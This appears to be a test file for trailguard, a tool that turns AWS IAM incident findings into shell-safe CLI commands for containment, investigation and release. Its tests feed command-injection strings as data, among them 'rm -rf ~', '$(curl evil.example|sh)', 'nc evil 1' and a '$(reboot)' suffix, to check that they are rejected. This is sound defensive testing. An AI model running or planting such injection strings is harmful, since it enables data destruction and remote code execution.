import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parsePolicyDocument } from "../iam/policy-document.js";
import { checkRevokeDocument } from "../iam/revoke-sessions-policy.js";
import type { ActionTarget, ResponseAction } from "../model/action.js";
import type { Finding } from "../model/finding.js";
import { ACCOUNT, type Json, assumedRole, eventBridge, findingOf, iamCall, iamUser } from "../../../test/support/records.js";
import { type Command, investigationCommands, iamConsoleLink, manualCommands, releaseLines, startTime, verifyCommand } from "./commands.js";

/** Every word of a command but trailguard's own quoted revoke document: nothing a shell treats specially. */
const SAFE_WORD = /^[\w+=,.@:/-]+$/;
const HOSTILE = ["--profile=admin", "-bob", "mallory; rm -rf ~", "$(curl evil.example|sh)", "`id`", "bob'", 'bob"', "bob\nrm -rf /", "bob&&reboot", "bob|nc evil 1", "bob>x", "-bob --debug", "bøb", "a".repeat(65)];
const ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess";

function attach(identity: Json = iamUser("mallory", { accessKeyId: "AKIAMALLORYKEY000001" }), target = "newadmin", overrides: Json = {}): Finding {
  return findingOf(eventBridge(iamCall("AttachUserPolicy", { userName: target, policyArn: ADMIN_POLICY }, { userIdentity: identity, ...overrides })), "managed-policy-attached");
}

const action = (type: ResponseAction["type"], target: ActionTarget, status: ResponseAction["status"] = "failed", reason = "AccessDenied: no"): ResponseAction => ({ type, target, status, reason });
const user = (userName: string | undefined): ActionTarget => ({ kind: "user", account: ACCOUNT, userName });
const role = (roleName: string | undefined): ActionTarget => ({ kind: "role", account: ACCOUNT, roleName });
const key = (userName: string | undefined, accessKeyId: string | undefined): ActionTarget => ({ kind: "access-key", account: ACCOUNT, userName, accessKeyId });

function texts(commands: readonly Command[]): string[] {
  return commands.map((command) => {
    if (!command.ok) throw new Error(`expected a command, got: ${command.why}`);
    return command.text;
  });
}

/** The words of a command outside trailguard's one double-quoted literal (the revoke document) and the deactivate-keys loop. */
function outsideLiterals(text: string): string[] {
  return text.replace(/"[^"\\]*(?:\\.[^"\\]*)*"/g, "LITERAL").split(" ");
}

describe("commands to run by hand", () => {
  it("deactivate a key, quarantine a user or role, revoke sessions: exact commands", () => {
    expect(texts(manualCommands(action("deactivate-access-key", key("mallory", "AKIAMALLORYKEY000001")), "aws"))).toEqual([
      "aws iam update-access-key --user-name mallory --access-key-id AKIAMALLORYKEY000001 --status Inactive",
    ]);
    expect(texts(manualCommands(action("attach-deny-policy", user("mallory")), "aws"))).toEqual(["aws iam attach-user-policy --user-name mallory --policy-arn arn:aws:iam::aws:policy/AWSDenyAll"]);
    expect(texts(manualCommands(action("attach-deny-policy", role("app")), "aws-us-gov"))).toEqual(["aws iam attach-role-policy --role-name app --policy-arn arn:aws-us-gov:iam::aws:policy/AWSDenyAll"]);
    expect(texts(manualCommands(action("attach-deny-policy", user("mallory"), "dry-run", "dry-run: would attach arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3"), "aws"))).toEqual([
      "aws iam attach-user-policy --user-name mallory --policy-arn arn:aws:iam::aws:policy/AWSCompromisedKeyQuarantineV3",
    ]);
    const [loop] = texts(manualCommands(action("deactivate-user-keys", user("mallory")), "aws"));
    expect(loop).toBe(
      `for key in $(aws iam list-access-keys --user-name mallory --query "AccessKeyMetadata[?Status=='Active'].AccessKeyId" --output text); do aws iam update-access-key --user-name mallory --access-key-id "$key" --status Inactive; done`,
    );
  });

  it("revoke sessions with trailguard's exact deny, its cut-off the time the command runs", () => {
    const [text] = texts(manualCommands(action("revoke-sessions", role("app")), "aws"));
    expect(text?.startsWith("aws iam put-role-policy --role-name app --policy-name TrailguardRevokeOlderSessions --policy-document \"")).toBe(true);
    expect(text).toContain("$(date -u +%Y-%m-%dT%H:%M:%SZ)");
    // What the shell makes of it at 12:03:04: the document the detection accepts as containment, not tampering.
    const argument = /--policy-document "(.*)"$/.exec(text ?? "")?.[1] ?? "";
    const document = argument.replace("$(date -u +%Y-%m-%dT%H:%M:%SZ)", "2024-05-01T12:03:04Z").replace(/\\(.)/g, "$1");
    const parsed = parsePolicyDocument(document);
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(checkRevokeDocument(parsed.document, "2024-05-01T12:03:05Z")).toEqual({ canonical: true, cutoff: "2024-05-01T12:03:04Z" });
  });

  it.each(HOSTILE)("gives no command for the name %j, and says why", (hostile) => {
    for (const target of [user(hostile), role(hostile), key(hostile, "AKIAMALLORYKEY000001")]) {
      for (const type of ["deactivate-access-key", "deactivate-user-keys", "attach-deny-policy", "revoke-sessions"] as const) {
        if (type === "deactivate-access-key" && target.kind !== "access-key") continue;
        const commands = manualCommands(action(type, target), "aws");
        expect(commands.length).toBeGreaterThan(0);
        for (const command of commands) {
          expect(command.ok).toBe(false);
          if (!command.ok) expect(command.why).toMatch(/(is not a valid IAM (user|role) name|starts with "-", which the AWS CLI would read as an option), so it is not put into a command/);
        }
      }
    }
    const check = verifyCommand(action("attach-deny-policy", user(hostile), "done"));
    expect(check.command.ok).toBe(false);
  });

  it("gives no command for an access key id that is not a long-term key", () => {
    for (const bad of ["ASIASESSIONKEY000001", "AKIA; rm -rf ~", undefined]) {
      const [command] = manualCommands(action("deactivate-access-key", key("mallory", bad)), "aws");
      expect(command?.ok).toBe(false);
    }
  });

  it("says root cannot be contained by a command", () => {
    const [command] = manualCommands(action("attach-deny-policy", { kind: "root", account: ACCOUNT }), "aws");
    expect(command).toEqual({ ok: false, why: "IAM cannot restrict the root user: no command can contain it" });
  });

  it("keeps every word of any command it gives shell-safe (property)", () => {
    const types = ["deactivate-access-key", "deactivate-user-keys", "attach-deny-policy", "revoke-sessions"] as const;
    fc.assert(
      fc.property(fc.constantFrom(...types), fc.string({ maxLength: 80, unit: "binary" }), fc.string({ maxLength: 40 }), fc.constantFrom("user", "role", "access-key"), (type, name, keyId, kind) => {
        const target: ActionTarget = kind === "user" ? user(name) : kind === "role" ? role(name) : key(name, keyId);
        for (const command of [...manualCommands(action(type, target), "aws"), verifyCommand(action(type, target, "done")).command]) {
          if (!command.ok) continue;
          expect(name).toMatch(/^[\w+=,.@][\w+=,.@-]{0,63}$/);
          for (const word of outsideLiterals(command.text)) expect(word === "LITERAL" || SAFE_WORD.test(word) || ["$(aws", "do", "done", "for", "key", "in", "text);", "Inactive;"].includes(word)).toBe(true);
        }
      }),
      { numRuns: 500 },
    );
  });
});

describe("checks that a done action holds", () => {
  it("names the read that shows it", () => {
    expect(verifyCommand(action("deactivate-access-key", key("mallory", "AKIAMALLORYKEY000001"), "done"))).toEqual({
      command: { ok: true, text: "aws iam list-access-keys --user-name mallory" },
      expect: "access key AKIAMALLORYKEY000001 shows Status Inactive",
    });
    expect(verifyCommand(action("attach-deny-policy", role("app"), "done")).command).toEqual({ ok: true, text: "aws iam list-attached-role-policies --role-name app" });
    expect(verifyCommand(action("revoke-sessions", user("mallory"), "done")).command).toEqual({ ok: true, text: "aws iam get-user-policy --user-name mallory --policy-name TrailguardRevokeOlderSessions" });
  });
});

describe("investigation commands", () => {
  const commandTexts = (finding: Finding, openedAt = "2024-05-01T12:00:00Z") => investigationCommands([finding], openedAt).map(({ command }) => (command.ok ? command.text : `NONE: ${command.why}`));

  it("look up the actor's calls from an hour before the incident, by name and by key, then its and the target's IAM state", () => {
    expect(commandTexts(attach())).toEqual([
      "aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=Username,AttributeValue=mallory --start-time 2024-05-01T11:00:00Z --max-results 50",
      "aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=AKIAMALLORYKEY000001 --start-time 2024-05-01T11:00:00Z --max-results 50",
      "aws iam list-access-keys --user-name mallory",
      "aws iam list-attached-user-policies --user-name mallory",
      "aws iam list-user-policies --user-name mallory",
      "aws iam list-groups-for-user --user-name mallory",
      "aws iam list-access-keys --user-name newadmin",
      "aws iam list-attached-user-policies --user-name newadmin",
      "aws iam list-user-policies --user-name newadmin",
      "aws iam list-groups-for-user --user-name newadmin",
      `aws iam list-entities-for-policy --policy-arn ${ADMIN_POLICY}`,
    ]);
  });

  it("look a role session up by its session name and the role by its name", () => {
    const lines = commandTexts(attach(assumedRole("Deployer", "ci-42", { accessKeyId: "ASIADEPLOYERSESSION1" })));
    expect(lines).toContain("aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=Username,AttributeValue=ci-42 --start-time 2024-05-01T11:00:00Z --max-results 50");
    expect(lines).toContain("aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=ASIADEPLOYERSESSION1 --start-time 2024-05-01T11:00:00Z --max-results 50");
    expect(lines).toContain("aws iam get-role --role-name Deployer");
    expect(lines).toContain("aws iam list-attached-role-policies --role-name Deployer");
  });

  it.each(HOSTILE)("omit every command that would carry the name %j, and say why", (hostile) => {
    const lines = commandTexts(attach(iamUser(hostile, { accessKeyId: "AKIAMALLORYKEY000001" }), hostile));
    for (const line of lines) {
      if (line.startsWith("NONE: ")) continue;
      expect(line).not.toContain(hostile);
      for (const word of line.split(" ")) expect(word).toMatch(SAFE_WORD);
    }
    expect(lines.filter((line) => /^NONE: the user name .* (is not a valid IAM user name|starts with "-", which the AWS CLI would read as an option), so it is not put into a command$/.test(line)).length).toBeGreaterThanOrEqual(2);
    // The key and the policy are still fine to look up.
    expect(lines).toContain(`aws iam list-entities-for-policy --policy-arn ${ADMIN_POLICY}`);
  });

  it("omit the CloudTrail lookups for a region or start that is not AWS's form", () => {
    const badRegion = commandTexts(attach(undefined, "newadmin", { awsRegion: "us-east-1; curl evil|sh" }));
    expect(badRegion.filter((line) => line.includes("lookup-events"))).toEqual([]);
    expect(badRegion.filter((line) => line.startsWith("NONE: the region"))).toHaveLength(2);
    const badStart = commandTexts(attach(), "2024-05-01T12:00:00Z$(reboot)");
    expect(badStart.filter((line) => line.includes("lookup-events"))).toEqual([]);
    expect(badStart[0]).toMatch(/^NONE: the incident's start .* is not an ISO 8601 UTC time$/);
  });

  it("compute the start an hour earlier, across midnight", () => {
    expect(startTime("2024-05-01T00:30:00.123Z")).toEqual({ value: "2024-04-30T23:30:00Z" });
    expect(startTime("yesterday")).toEqual({ why: 'the incident\'s start "yesterday" is not an ISO 8601 UTC time' });
  });
});

describe("console links and release lines", () => {
  it("link IAM users and roles only by a valid name, in a known partition", () => {
    expect(iamConsoleLink("user", "mallory", "aws")).toBe("https://console.aws.amazon.com/iam/home#/users/details/mallory");
    expect(iamConsoleLink("role", "app", "aws-cn")).toBe("https://console.amazonaws.cn/iam/home#/roles/details/app");
    for (const hostile of HOSTILE.filter((name) => !/^[\w+=,.@-]{1,64}$/.test(name))) expect(iamConsoleLink("user", hostile, "aws")).toBeUndefined();
    expect(iamConsoleLink("user", "mallory", "aws-iso")).toBeUndefined();
  });

  it("give the release command only for a finding id trailguard made", () => {
    const done: ResponseAction = {
      ...action("deactivate-access-key", key("mallory", "AKIAMALLORYKEY000001"), "done", "deactivated"),
      undo: [{ kind: "reactivate-access-key", account: ACCOUNT, userName: "mallory", accessKeyId: "AKIAMALLORYKEY000001" }],
    };
    const finding = { ...attach(), actions: [done] };
    expect(releaseLines(finding)).toContain(`  npm run release -- '${finding.eventId}/managed-policy-attached'`);
    expect(releaseLines(finding)).toContain("  aws iam update-access-key --user-name mallory --access-key-id AKIAMALLORYKEY000001 --status Active");
    const forged = { ...finding, findingId: "x'; rm -rf ~; echo '/managed-policy-attached" };
    const lines = releaseLines(forged);
    expect(lines.join("\n")).not.toContain("npm run release -- 'x");
    expect(lines[1]).toMatch(/no release command: the finding id .* is not one trailguard made/);
  });
});
